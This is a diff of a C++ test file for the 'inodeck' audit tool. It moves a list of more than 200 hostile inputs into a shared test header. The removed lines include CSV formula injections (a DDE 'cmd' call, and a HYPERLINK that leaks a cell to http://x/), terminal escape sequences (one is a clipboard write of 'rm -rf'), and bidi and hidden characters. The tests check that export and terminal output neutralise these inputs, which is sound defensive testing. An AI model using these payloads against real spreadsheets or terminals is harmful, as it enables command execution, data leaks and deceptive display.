@@ -5,97 +5,16 @@
 #include "core/audit/export.h"
 #include "core/base/text.h"
 #include "tests/cli/cli_rig.h"
+#include "tests/support/hostile_payloads.h"
 #include "tests/unit/audit_crash/audit_folder.h"
 
 namespace inodeck {
 namespace {
 
+using test::harmIn;
+using test::hostilePayloads;
 using test::Ran;
 using Texts = std::vector<std::string>;
-
-/// Each pattern with each special text put in the place of its "?".
-void add(Texts& payloads, const Texts& patterns, const Texts& specials) {
-    for (const std::string& special : specials)
-        for (std::string text : patterns) {
-            for (std::size_t at = text.find('?'); at != std::string::npos;
-                 at = text.find('?', at + special.size()))
-                text.replace(at, 1, special);
-            payloads.push_back(std::move(text));
-        }
-}
-
-/// More than two hundred names and reasons that are more than text somewhere.
-const Texts& payloads() {
-    static const Texts all = [] {
-        Texts list;
-        add(list,
-            {"?1+1", "?cmd|' /C calc'!A0", "?HYPERLINK(\"http://x/\"&A1,\"ok\")", "?SUM(1,2);\"\r\n=2",
-             " ?1"},
-            {"=", "+", "-", "@", "\t=", "\r=", "\n=", "\"=", "＝", "＋", "－", "＠"});
-        add(list, {"edge?", "?m web", "new\n?log"},
-            {"\x1b[2J",
-             "\x1b[31;5m",
-             "\x1b]0;title\a",
-             "\x1b]52;c;cm0gLXJm\a",
-             "\x1b]8;;http://x\x1b\\ok",
-             "\x1bPq#0\x1b\\",
-             "\x1b[6n",
-             "\x1b[?1049h",
-             "\x1b[1A\x1b[2K",
-             "\x1b"
-             "c",
-             "\x9b"
-             "2J",
-             "\xc2\x9b"
-             "2J",
-             "\xc2\x9d"
-             "0;x\xc2\x9c",
-             "\x90q\x9c",
-             "\a",
-             "\b\b\b",
-             "\x7f",
-             "\r",
-             "\v",
-             "\f",
-             "\x0e",
-             "\x0f",
-             "\x05",
-             std::string(1, '\0'),
-             "\xff\xfe",
-             "\xc3\x28",
-             "\xed\xa0\x80",
-             "\xf4\x90\x80\x80",
-             "\\x1b[2J",
-             "\x1b[999;999H"});
-        Texts hiding;
-        for (const char* c : {"\u061c", "\u200b", "\u200c",     "\u200d",     "\u200e", "\u200f", "\u2028",
-                              "\u2029", "\u202a", "\u202b",     "\u202c",     "\u202d", "\u202e", "\u2060",
-                              "\u2066", "\u2067", "\u2068",     "\u2069",     "\u206a", "\u206f", "\ufeff",
-                              "\u00ad", "\u180e", "\U000e0001", "\U000e0041", "\ufff9"})
-            hiding.emplace_back(c);
-        add(list, {"edge?txt.exe", "?web", "ok? \"verified\""}, hiding);
-        return list;
-    }();
-    return all;
-}
-
-/// Bytes that a terminal or a reader would act on: escapes, controls, C1, bidi and hidden characters. What is
-/// allowed: line ends.
-std::string harmIn(const std::string& text) {
-    for (std::size_t at = 0; at < text.size();) {
-        const std::size_t end = std::min(text.find_first_of("\r\n", at), text.size());
-        std::string line = text.substr(at, end - at);
-        if (line.starts_with("\x1b[K"))
-            line.erase(0, 3); // our own progress is wiped; no payload has this
-        std::string undone = printable(line);
-        for (std::size_t i = 0; (i = undone.find("\\\\", i)) != std::string::npos; ++i)
-            undone.erase(i, 1);
-        if (undone != line)
-            return undone;
-        at = end + 1;
-    }
-    return {};
-}
 
 /// RFC 4180, every field quoted; empty when it is not that.
 std::vector<Texts> parsedCsv(const std::string& csv) {
@@ -141,7 +60,7 @@ protected:
     void recordAll() const {
         auto store = openAuditStore({});
         ASSERT_TRUE(store) << store.error().message;
-        for (const std::string& payload : payloads()) {
+        for (const std::string& payload : hostilePayloads()) {
             RecordDraft draft = test::draftOf(RecordType::Outcome, payload);
             draft.actor = {payload, payload, payload};
             draft.target.vm = payload;
@@ -159,7 +78,7 @@ protected:
 };
 
 TEST_F(PayloadTest, ThereAreEnough) {
-    EXPECT_GE(payloads().size(), 200u);
+    EXPECT_GE(hostilePayloads().size(), 200u);
     EXPECT_NE(harmIn("a\x1b[2J"), "");
     EXPECT_NE(harmIn("a\u202e"), "");
     EXPECT_NE(harmIn("\xc2\x9b"), "");
@@ -177,7 +96,7 @@ TEST_F(PayloadTest, NoneIsAFormulaOrAnEscapeInCsv) {
     const std::string csv{std::istreambuf_iterator<char>(file), {}};
     EXPECT_EQ(harmIn(csv), "");
     const auto rows = parsedCsv(csv);
-    ASSERT_EQ(rows.size(), payloads().size() + 3) << "what it is, the columns, genesis";
+    ASSERT_EQ(rows.size(), hostilePayloads().size() + 3) << "what it is, the columns, genesis";
     for (std::size_t i = 1; i < rows.size(); ++i) {
         EXPECT_EQ(rows[i].size(), rows[1].size()) << "row " << i;
         for (const std::string& field : rows[i])
@@ -190,13 +109,13 @@ TEST_F(PayloadTest, NoneActsOnTheTerminalInAuditList) {
     const Ran ran = onTerminal({"audit", "list"});
     EXPECT_EQ(ran.status, 0) << ran.out;
     EXPECT_EQ(harmIn(ran.out), "");
-    EXPECT_EQ(test::linesOf(ran.out).size(), payloads().size() + 1) << "one line each";
+    EXPECT_EQ(test::linesOf(ran.out).size(), hostilePayloads().size() + 1) << "one line each";
     EXPECT_EQ(harmIn(inodeck({"audit", "list"}).out), "") << "nor when it is piped into one";
 }
 
 TEST_F(PayloadTest, NoneActsOnTheTerminalInAuditShow) {
     recordAll();
-    for (std::size_t i = 1; i <= payloads().size(); ++i) {
+    for (std::size_t i = 1; i <= hostilePayloads().size(); ++i) {
         const Ran ran = onTerminal({"audit", "show", std::to_string(i)});
         EXPECT_EQ(ran.status, 0) << ran.out;
         EXPECT_EQ(harmIn(ran.out), "");
@@ -210,8 +129,8 @@ TEST_F(PayloadTest, NoneActsOnTheTerminalInAuditVerifyAndInErrors) {
         harmIn(
             onTerminal({"audit", "verify", "--audit", (folder / "data/inodeck/audit.sqlite").string()}).out),
         "");
-    for (std::size_t i = 0; i < payloads().size(); i += 9) {
-        std::string name = payloads()[i];
+    for (std::size_t i = 0; i < hostilePayloads().size(); i += 9) {
+        std::string name = hostilePayloads()[i];
         std::erase(name, '\0');
         EXPECT_EQ(harmIn(onTerminal({"audit", "verify", name}).out), "") << i;
         EXPECT_EQ(harmIn(onTerminal({"audit", "list", "--host", name}).out), "") << i;
@@ -231,7 +150,7 @@ std::string jsonText(const std::string& text) {
 
 TEST_F(PayloadTest, NoneActsOnTheTerminalInAScan) {
     std::vector<test::ContainerText> containers;
-    for (const std::string& payload : payloads()) {
+    for (const std::string& payload : hostilePayloads()) {
         auto container = test::staleContainer('a', isUtf8(payload) ? jsonText(payload) : "edge");
         const std::string number = std::to_string(containers.size());
         container.id.replace(0, number.size(), number);
@@ -247,7 +166,7 @@ TEST_F(PayloadTest, NoneActsOnTheTerminalInAScan) {
     const Ran ran = onTerminal(replay({"scan"}), 250);
     EXPECT_EQ(ran.status, 1) << ran.out;
     EXPECT_EQ(harmIn(ran.out), "");
-    EXPECT_GE(test::linesOf(ran.out).size(), payloads().size());
+    EXPECT_GE(test::linesOf(ran.out).size(), hostilePayloads().size());
     EXPECT_EQ(harmIn(inodeck(replay({"scan"})).out), "");
 }
 
